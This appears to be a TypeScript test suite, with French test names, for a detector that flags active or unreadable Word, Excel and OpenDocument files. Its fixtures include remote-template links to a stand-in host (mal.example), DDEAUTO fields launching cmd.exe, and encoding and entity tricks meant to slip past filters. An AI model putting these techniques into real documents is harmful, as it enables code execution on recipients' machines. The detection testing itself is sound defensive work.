import { expect, test } from 'vitest';
import { makeDocx, makeOds, makeOdt, makeXlsx } from '../../../../testing/fichiers/contenus.ts';
import { judge } from '../../../../testing/fichiers/judge.ts';

const KINDS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (kind: string, target: string, more = 'TargetMode="External"'): string =>
  `<Relationships><Relationship Id="r1" Type="${KINDS}/${kind}" Target="${target}" ${more}/></Relationships>`;
const FAR = relation('attachedTemplate', 'http://mal.example/x.dotm');
const rels = (content: string | Buffer, name = 'word/_rels/settings.xml.rels') =>
  makeDocx({ entries: [{ name, content }] });
const utf16 = (text: string): Buffer => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(text, 'utf16le')]);

test.each([
  ['tel quel', rels(FAR)],
  ['entre apostrophes', rels(FAR.replaceAll('"', "'"))],
  ['en UTF-16', rels(utf16(`<?xml version="1.0" encoding="UTF-16"?>${FAR}`))],
  ['en UTF-16, sans marque', rels(Buffer.from(FAR, 'utf16le'))],
  ['en UTF-16, à l’envers', rels(Buffer.from(FAR, 'utf16le').swap16())],
  ['dans une partie en capitales', rels(FAR, 'word/_rels/settings.xml.RELS')],
  ['par une entité', rels(FAR.replace('Template', '&#84;emplate').replace('External', '&#x45;xternal'))],
  ['sous un préfixe', rels(FAR.replaceAll('Relationship ', 'p:Relationship '))],
  ['derrière un attribut du même nom', rels(FAR.replace('/>', ' x:TargetMode="Internal"/>'))],
  ['sans dire qu’il est dehors', rels(relation('attachedTemplate', 'http://mal.example/x.dotm', ''))],
  ['par un autre genre', rels(relation('externalLinkPath', 'file:///C:/a.xlsx'))],
  ['par une image d’un partage', rels(relation('image', '\\\\mal.example\\a\\b.png'))],
  ['par un morceau d’un autre format', rels(relation('aFChunk', 'a.dat', ''))],
])('P-6 un modèle lointain %s est refusé', async (_, content) => {
  expect(await judge('a.docx', content)).toBe('FICHIER_ACTIF');
});

test.each([
  ['un lien', relation('hyperlink', 'https://asso.example/?a=1&amp;b=2')],
  ['une image de la toile', relation('image', 'https://asso.example/logo.png')],
  ['une partie voisine', relation('styles', 'styles.xml', '')],
  ['un commentaire', `<!-- ${FAR} --><Relationships/>`],
  ['du UTF-16', utf16('<?xml version="1.0" encoding="UTF-16"?><Relationships/>')],
])('P-6 %s est gardé', async (_, content) => {
  expect(await judge('a.docx', rels(content))).toBe('docx');
});

test.each([
  ['un mot défini par le document', `<!DOCTYPE r [<!ENTITY x "y">]>${FAR}`],
  ['un encodage rare', `<?xml version="1.0" encoding="utf-7"?>${FAR}`],
  ['un encodage loin dans la déclaration', `<?xml version="1.0"${' '.repeat(900)}encoding="utf-7"?>${FAR}`],
  ['un encodage qui ment', `<?xml version="1.0" encoding="utf-16"?>${FAR}`],
  ['un attribut en double', FAR.replace('TargetMode', 'TargetMode="Internal" TargetMode')],
  ['une balise sans fin', '<Relationships><Relationship Target="x'],
])('P-6 une partie qui ne se lit pas à coup sûr est refusée : %s', async (_, content) => {
  expect(await judge('a.docx', rels(content))).toBe('FICHIER_ILLISIBLE');
});

const MEGABYTE = 1_048_576;
test.each([
  ['une balise sans fin', `<R ${'TargetMode="External"'.repeat(80_000)}`],
  ['des espaces', `<R ${' '.repeat(MEGABYTE)}`],
  ['cent mille relations', `<R>${'<R TargetMode="External" T="'.repeat(60_000)}`],
  ['des débuts de commentaire', `<R>${'<!--'.repeat(400_000)}`],
  ['des débuts d’entité', `<R a="${'&#'.repeat(30_000)}"/>`],
  ['des chevrons', '<'.repeat(MEGABYTE)],
])('T14 %s : jugé vite', async (_, content) => {
  const startedAt = performance.now();
  await judge('a.docx', rels(content));
  expect(performance.now() - startedAt).toBeLessThan(2_000);
});

const field = (...pieces: string[]): string =>
  `<w:p><w:fldChar w:fldCharType="begin"/>${pieces.map((piece) => `<w:instrText>${piece}</w:instrText>`).join('</w:r><w:r>')}<w:fldChar w:fldCharType="end"/></w:p>`;
const text = (body: string, name = 'word/footer1.xml') =>
  makeDocx({ entries: [{ name, content: `<w:ftr>${body}</w:ftr>` }] });

test.each([
  ['d’un trait', text(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))],
  ['en morceaux', text(field(' D', 'DE', 'AUTO c:\\\\cmd.exe'))],
  ['par des entités', text(field('&#68;DE c:\\\\cmd.exe'))],
  ['dans une section', text(field('<![CDATA[DDE]]> c:\\\\cmd.exe'))],
  ['en un champ simple', text('<w:fldSimple w:instr="ddeauto cmd"/>')],
  ['dans une partie en capitales', text(field('DDEAUTO cmd'), 'word/footer1.XML')],
  ['après un guillemet ouvert', text(field('HYPERLINK "') + field('DDEAUTO cmd') + field('"'))],
])('P-6 un champ qui lance un programme %s est refusé', async (_, content) => {
  expect(await judge('a.docx', content)).toBe('FICHIER_ACTIF');
});

test('P-6 un lien vers une direction de l’équipement n’est pas un champ DDE', async () => {
  expect(await judge('a.docx', text(field(' HYPERLINK "http://www.dde.example/a" ') + field('PAGE')))).toBe('docx');
});

const types = (more: string): string => `<Types><Override PartName="/x.xml" ContentType="a/b"/>${more}</Types>`;

test.each([
  ['macrosheet', '<Override PartName="/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'],
  ['macrosheet caché', "<Override PartName='/a.xml' ContentType='application/vnd.ms-excel.&#109;acrosheet+xml'/>"],
  ['lien DDE', '<Override PartName="/a.xml" ContentType="application/x.spreadsheetml.externalLink+xml"/>'],
])('P-6 un tableur de type %s est refusé', async (_, more) => {
  expect(await judge('a.xlsx', makeXlsx({ types: types(more) }))).toBe('FICHIER_ACTIF');
});

test('P-6 un texte sous un autre nom que .xml est refusé', async () => {
  const more = '<Override PartName="/word/media/a.png" ContentType="application/x.wordprocessingml.footer+xml"/>';
  expect(await judge('a.docx', makeDocx({ types: types(more) }))).toBe('FICHIER_ACTIF');
});

const holding = (content: Buffer): Buffer => makeDocx({ entries: [{ name: 'word/embeddings/a.xlsx', content }] });

test.each([
  ['sain', holding(makeXlsx()), 'docx'],
  ['à macros', holding(makeXlsx({ entries: [{ name: 'xl/vbaProject.bin', content: 'x' }] })), 'FICHIER_ACTIF'],
  ['au modèle lointain', holding(makeXlsx({ rels: FAR })), 'FICHIER_ACTIF'],
  [
    'qui en porte un autre',
    holding(makeXlsx({ entries: [{ name: 'xl/embeddings/a.xlsx', content: makeXlsx() }] })),
    'FICHIER_ACTIF',
  ],
  ['qui est un texte', holding(makeDocx()), 'FICHIER_ACTIF'],
  ['qui est un programme', holding(Buffer.from('MZ')), 'FICHIER_ILLISIBLE'],
])('P-6 un docx avec un tableur %s', async (_, content, attendu) => {
  expect(await judge('a.docx', content)).toBe(attendu);
});

test('P-6 un odt ou un ods à lien DDE, ou qui écoute ses boutons, est refusé', async () => {
  const dde = '<office:dde-source office:dde-application="cmd"/>';
  const listener = '<script:event-listener script:event-name="dom:load"/>';
  expect(await judge('a.ods', makeOds({ entries: [{ name: 'Object 1/content.xml', content: dde }] }))).toBe(
    'FICHIER_ACTIF',
  );
  expect(await judge('a.odt', makeOdt({ entries: [{ name: 'styles.xml', content: listener }] }))).toBe('FICHIER_ACTIF');
});
